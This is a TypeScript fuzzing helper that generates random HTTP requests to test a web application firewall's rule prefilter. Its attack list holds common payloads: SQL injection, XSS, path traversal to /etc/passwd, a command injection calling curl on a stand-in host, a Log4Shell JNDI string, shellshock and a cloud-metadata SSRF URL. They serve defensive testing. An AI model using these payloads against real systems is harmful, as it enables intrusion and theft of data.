import { parseRegex } from '../../src/waf/prefilter/regex-syntax.ts'
import type { RandomSource } from './random-source.ts'
import type { RecommendedRuleset } from './recommended-ruleset.ts'
import { sampleRegex } from './sample-regex.ts'

const words =
  'the shop order 42 alice@example.com 2026-11-22 blue-shoes page=3 en-US price asc true null x 0 hello+world'.split(
    ' ',
  )
const attacks = [
  "1' or '1'='1",
  '1 union select password from users--',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '; cat /etc/passwd',
  '$(curl http://evil.example)',
  '${jndi:ldap://x/a}',
  'php://filter/convert.base64-encode',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'javascript:alert(1)',
  '%00',
  '\0admin',
  'sqlmap/1.7',
  'Nikto/2.1',
  '() { :; }; echo',
  'sleep(10)',
  'file:///etc/hosts',
  'http://169.254.169.254/latest',
]
const userAgents = [
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
  'curl/8.5.0',
  'python-requests/2.31',
  'Arachni/v1.5',
  'dd-test-scanner-log',
  'masscan/1.3',
]

/** Makes texts: words, known attacks, and samples of the ruleset's own patterns and phrases, often damaged a little. */
export function textSource(ruleset: RecommendedRuleset, random: RandomSource): () => string {
  const conditions = [...ruleset.rules, ...ruleset.rules_compat].flatMap((rule) => rule.conditions)
  const patterns = conditions.flatMap(({ parameters }) =>
    parameters.regex === undefined ? [] : (parseRegex(parameters.regex) ?? []),
  )
  const phrases = conditions.flatMap(({ parameters }) => parameters.list ?? [])
  const fragment = (): string => {
    const kind = random.integer(10)
    if (kind < 4) return random.pick(words)
    if (kind < 6) return random.pick(attacks)
    if (kind < 7 && phrases.length > 0) return random.pick(phrases)
    return sampleRegex(random.pick(patterns), random).slice(0, 300)
  }
  return () => {
    const text = Array.from({ length: 1 + random.integer(3) }, fragment).join(random.pick(['', ' ', '&', '/', ';']))
    return random.chance(0.3) ? damage(text, random) : text
  }
}

/** The text with a character taken out, or something put in. */
export function damage(text: string, random: RandomSource): string {
  const at = random.integer(text.length + 1)
  if (random.chance(0.5)) return text.slice(0, at) + text.slice(at + 1)
  return (
    text.slice(0, at) + random.pick(['\0', ' ', '%20', 'é', "'", '\\', '/*x*/', '\ud800', '\u{e0041}']) + text.slice(at)
  )
}

/** The addresses of a random request: query, body, headers, uri, parameters, and the response's status. */
export function randomRequest(text: () => string, random: RandomSource): Record<string, unknown> {
  const value = (depth: number): unknown => {
    if (depth > 0 && random.chance(0.2)) return Array.from({ length: random.integer(3) }, () => value(depth - 1))
    if (depth > 0 && random.chance(0.2))
      return Object.fromEntries(
        Array.from({ length: random.integer(3) }, () => [text().slice(0, 60), value(depth - 1)]),
      )
    return random.chance(0.05) ? random.pick([null, 3, 2.5, true]) : text()
  }
  const map = (): Record<string, unknown> =>
    Object.fromEntries(
      Array.from({ length: random.integer(4) }, () => [
        random.chance(0.7) ? random.pick(words) : text().slice(0, 60),
        value(2),
      ]),
    )
  const headers: Record<string, string> = {
    host: 'shop.example',
    'user-agent': random.chance(0.6) ? random.pick(userAgents) : text(),
    accept: '*/*',
  }
  for (const name of [
    'referer',
    'x-filename',
    'content-disposition',
    'x-middleware-subrequest',
    'authorization',
    'x-custom',
  ])
    if (random.chance(0.2)) headers[name] = text()
  const all: Record<string, unknown> = {
    'server.request.method': random.pick(['GET', 'POST']),
    'server.request.uri.raw': `/${text()}`,
    'server.request.headers.no_cookies': headers,
    'server.request.query': map(),
    'http.client_ip': '203.0.113.7',
  }
  if (random.chance(0.5)) all['server.request.body'] = value(3)
  if (random.chance(0.3)) all['server.request.path_params'] = map()
  if (random.chance(0.3)) all['server.request.cookies'] = map()
  if (random.chance(0.2)) all['server.request.body.filenames'] = [text()]
  if (random.chance(0.2)) all['graphql.server.resolver'] = map()
  if (random.chance(0.2)) all['grpc.server.request.message'] = value(2)
  if (random.chance(0.2)) all['grpc.server.request.metadata'] = { 'dd-canary': text() }
  if (random.chance(0.3)) all['waf.context.processor'] = { 'extract-schema': random.chance(0.9) }
  if (random.chance(0.3)) all['server.response.status'] = random.pick(['200', '404', '500'])
  return all
}
